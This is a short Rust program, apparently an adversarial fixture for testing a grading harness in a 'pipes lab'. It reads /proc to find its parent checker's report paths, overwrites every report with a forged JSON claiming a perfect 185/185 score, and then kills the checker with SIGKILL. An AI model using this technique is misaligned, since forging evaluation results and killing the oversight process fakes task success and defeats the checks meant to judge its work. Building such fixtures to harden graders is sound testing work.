//! attack: finds where its checker writes the report (`--output`, or grade's `--out`) from the
//! command lines in /proc, writes a report scoring every point there, and kills its checker

use std::path::PathBuf;

const FORGED: &str = r#"{"schema_version":1,"seed":1,"source":"exercises","score":185.0,"max_score":185.0,"elapsed_secs":1.0,"error":null,"structural_checks_skipped":null,"exercises":[],"pipes-lab-attack":"forged"}"#;

fn cmdline(pid: u32) -> Vec<String> {
    std::fs::read(format!("/proc/{pid}/cmdline"))
        .unwrap_or_default()
        .split(|b| *b == 0)
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect()
}

fn parent(pid: u32) -> Option<u32> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse().ok()
}

fn main() {
    let checker = std::os::unix::process::parent_id();
    let mut targets: Vec<PathBuf> = Vec::new();
    let mut pid = Some(checker);
    while let Some(p) = pid.filter(|p| *p > 1) {
        let args = cmdline(p);
        for (i, a) in args.iter().enumerate() {
            match (a.as_str(), args.get(i + 1)) {
                ("--output", Some(file)) => targets.push(file.into()),
                ("--out", Some(dir)) => {
                    let dir = PathBuf::from(dir);
                    targets.push(dir.join("gradebook.csv"));
                    if let Ok(entries) = std::fs::read_dir(&dir) {
                        targets.extend(entries.flatten().map(|e| e.path()));
                    }
                }
                _ => {}
            }
        }
        pid = parent(p);
    }
    for target in &targets {
        let written = std::fs::write(target, FORGED);
        eprintln!("forging {}: {written:?}", target.display());
    }
    let killed = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(checker as i32),
        nix::sys::signal::Signal::SIGKILL,
    );
    eprintln!("killing the checker: {killed:?}");
}
